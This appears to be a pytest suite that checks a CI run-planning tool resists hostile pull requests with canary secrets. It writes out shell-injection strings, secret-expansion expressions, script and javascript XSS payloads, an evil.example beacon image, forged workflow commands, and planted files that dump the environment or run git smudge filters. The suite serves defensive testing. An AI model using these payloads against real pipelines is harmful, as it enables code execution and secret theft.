"""Requests that mean harm: a plan stays a plan, nothing of them is executed, nothing leaks."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest
from act_runner import Finished
from comment_html import CommentHtml
from github_git import bare_git
from hosted_registry import HostedRegistry
from live_registry import script_spec
from stand_in_s3 import S3

from runner.forges.base import COMMENT_LIMIT

SPEC = script_spec(steps=2)
CANARY = "canary-3f9d1c77"
ATTACKS = (
    "$(touch {folder}/shell)",
    "`touch {folder}/backticks`",
    "; touch {folder}/semicolon #",
    "${{{{ secrets.HF_TOKEN }}}}",
    "${{{{ github.token }}}}",
    "@octo/everyone and @octocat, see #1 and octo/registry#1",
    "<!-- rollbook:plan:v1 pr=1 digest=0 head=0 base=0 -->",
    "--></details><script>alert(1)</script><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1)) ![x](https://evil.example/{canary}.png) https://evil.example",
    "| a | b |\\n|---|---|\\n# heading",
    "::error::forged%0A::set-output name=rewards::true",
    "::add-mask::launches",
    "\\u202egnp.exe\\u0000\\u001b[31m",
)


@pytest.fixture
def canary(hosted: HostedRegistry) -> str:
    """Give the repository a secret that no output may hold."""
    hosted.secrets["HF_TOKEN"] = CANARY
    hosted.secrets["WANDB_API_KEY"] = CANARY
    return CANARY


def outputs(hosted: HostedRegistry, done: Finished) -> str:
    """Return everything that the outside can see of a workflow."""
    files = [path for root in done.artifacts.values() for path in root.rglob("*") if path.is_file()]
    comments = [one.body for one in hosted.github.state.comments]
    statuses = [str(one) for one in hosted.github.state.statuses]
    texts = [path.read_text(errors="replace") for path in files]
    folder = hosted.github.repository.folder
    ledger = bare_git(folder, "log", "-p", "--format=%B", "runs")
    return "\n".join(
        [done.log, done.summary, *done.annotations, *comments, *statuses, *texts, ledger]
    )


def test_text_of_a_spec_is_text_everywhere(
    hosted: HostedRegistry, canary: str, tmp_path: Path
) -> None:
    specs = {}
    for number, attack in enumerate(ATTACKS):
        text = attack.format(folder=tmp_path, canary=canary)
        quoted = '"' + text.replace('"', '\\"') + '"'
        specs[f"attack/n{number}"] = (
            f"{SPEC}description: {quoted}\nhypothesis: {quoted}\nowner: octocat\ntags: [x]\n"
        )
        specs[f"broken/n{number}"] = f"{SPEC}{quoted}: {quoted}\n"
    pull = hosted.open(specs, author="octocat")
    done = hosted.plan(pull)
    assert done.jobs["plan"] == "failure"  # what is broken is refused
    assert done.jobs["reward-check"] == "skipped"
    assert list(tmp_path.glob("[sb]*[lks]")) == []
    comment = hosted.plan_comment(pull)
    assert len(comment.encode()) <= COMMENT_LIMIT
    for text in (comment, done.summary):
        seen = CommentHtml(text)
        assert not {"script", "img", "iframe"} & set(seen.tags)
        assert all(link.startswith(hosted.github.urls.server) for link in seen.links), seen.links
        assert len([one for one in seen.comments if one.startswith("rollbook:plan")]) == 1
        assert not re.search(r"@octo|#1\b|\u202e", " ".join(seen.prose))
    assert not any("forged" in one and "title=" not in one for one in done.annotations)
    assert canary not in outputs(hosted, done).replace("evil.example/canary", "")


def test_nothing_that_a_request_brings_is_executed(
    hosted: HostedRegistry, canary: str, tmp_path: Path
) -> None:
    proof = tmp_path / "executed"
    code = f"import pathlib, os\npathlib.Path({str(proof)!r}).write_text(str(dict(os.environ)))\n"
    folder = hosted.github.repository.folder
    action = bare_git(folder, "show", "main:.github/actions/rollbook/action.yml")
    step = f"\n    - shell: bash\n      run: touch {proof}\n"
    files = {
        "a": SPEC,
        "runner/__init__.py": code,
        "runner/__main__.py": code,
        "sitecustomize.py": code,
        "conftest.py": code,
        "setup.py": code,
        "pydantic.py": code,
        "reward/evil.py": f"{code}def compute_score(*a, **k):\n    return 1.0\n",
        ".github/actions/rollbook/action.yml": action + step,
        ".gitattributes": "*.yaml filter=evil diff=evil merge=evil\n",
        ".gitconfig": f'[filter "evil"]\n  smudge = touch {proof}\n',
        ".dvc/config.local": "[core]\n  remote = evil\n",
    }
    pull = hosted.open(files)
    done = hosted.plan(pull)
    assert done.code == 0, done.log
    assert "launches 1 run" in hosted.plan_comment(pull)
    assert not proof.exists()
    assert canary not in outputs(hosted, done)


def test_secrets_that_are_not_theirs_are_refused(hosted: HostedRegistry, canary: str) -> None:
    settings = bare_git(hosted.github.repository.folder, "show", "main:registry.yaml")
    hosted.push({"README.md": "applied once"})
    assert hosted.apply().code == 0
    files = {
        "registry.yaml": f'{settings}\nsecrets: {{"**": [HF_TOKEN, AWS_SECRET_ACCESS_KEY]}}\n',
        "thief": f"{SPEC}secrets: [HF_TOKEN]\n",
        "forge": f"{SPEC}secrets: [GITHUB_TOKEN]\n",
    }
    pull = hosted.open(files)
    done = hosted.plan(pull)
    assert done.code == 1
    comment = hosted.plan_comment(pull)
    assert "HF_TOKEN" in comment
    assert "counts from the apply after" in comment
    hosted.merge(pull)
    applied = hosted.apply()
    assert applied.code == 1
    assert hosted.records() == []
    assert canary not in outputs(hosted, applied)


def test_a_run_sees_the_secrets_that_it_names_and_no_others(
    hosted: HostedRegistry, canary: str, s3: S3, tmp_path: Path
) -> None:
    told = tmp_path / "environment.json"
    spec = script_spec("--told", told, "--say", "hello", steps=2)
    hosted.push({"a": spec})
    done = hosted.apply()
    assert done.code == 0, done.log
    environment = told.read_text()
    assert "ROLLBOOK_JOB" in environment
    for name in (
        "GITHUB_TOKEN",
        "HF_TOKEN",
        "WANDB_API_KEY",
        "AWS_SECRET_ACCESS_KEY",
        "GIT_CONFIG",
    ):
        assert name not in environment
    assert canary not in environment
    assert canary not in outputs(hosted, done)
    found, client = s3.keys(), s3.client()
    stored = [client.get_object(Bucket=s3.bucket, Key=key)["Body"].read() for key in found]
    assert stored
    assert all(canary.encode() not in content for content in stored)
    assert all(b"testing-secret" not in content for content in stored)


def test_a_request_of_ten_thousand_files_is_planned(hosted: HostedRegistry) -> None:
    files: dict[str, str | bytes | None] = {f"notes/{n // 100}/{n}.txt": "x" for n in range(10_000)}
    pull = hosted.open({**files, "a": SPEC})
    began = time.monotonic()
    done = hosted.plan(pull)
    assert done.code == 0, done.log
    assert "launches 1 run" in hosted.plan_comment(pull)
    assert time.monotonic() - began < 120


def test_huge_values_fit_into_what_github_takes(hosted: HostedRegistry) -> None:
    long = "x" * 900_000
    many = {f"many/n{n}": f"{SPEC}trianing{n}: 1\n" for n in range(300)}
    pull = hosted.open({"long": f'{SPEC}description: "{long}"\n', **many})
    done = hosted.plan(pull)
    assert done.jobs["plan"] == "failure"
    assert len(hosted.plan_comment(pull).encode()) <= COMMENT_LIMIT
    assert len(done.summary.encode()) <= 1 << 20
    assert len([one for one in done.annotations if one.startswith("::error")]) <= 11


def test_a_forged_plan_comment_of_a_stranger_is_not_ours(hosted: HostedRegistry) -> None:
    pull = hosted.open({"a": SPEC}, author="stranger", fork=True)
    forged = "<!-- rollbook:plan:v1 pr=1 digest=0 head=0 base=0 -->\n✅ Merging this is harmless"
    hosted.github.write_comment(pull.number, forged, "stranger")
    hosted.push({"README.md": "news"})
    assert hosted.apply().code == 0
    bodies = [one.body for one in hosted.comments(pull)]
    assert bodies[0] == forged
    assert "launches 1 run" in bodies[1]


def test_a_comment_is_data_too(hosted: HostedRegistry, tmp_path: Path) -> None:
    pull = hosted.open({"a": f"{SPEC}launch: manual\n"})
    hosted.merge(pull)
    assert hosted.apply().code == 0
    for body in (
        f"/runner launch $(touch {tmp_path}/x)",
        "/runner launch a; id",
        "/runner ${{ github.token }}",
    ):
        done = hosted.comment(pull, body)
        assert done.code == 1
        assert hosted.records() == []
    assert not (tmp_path / "x").exists()
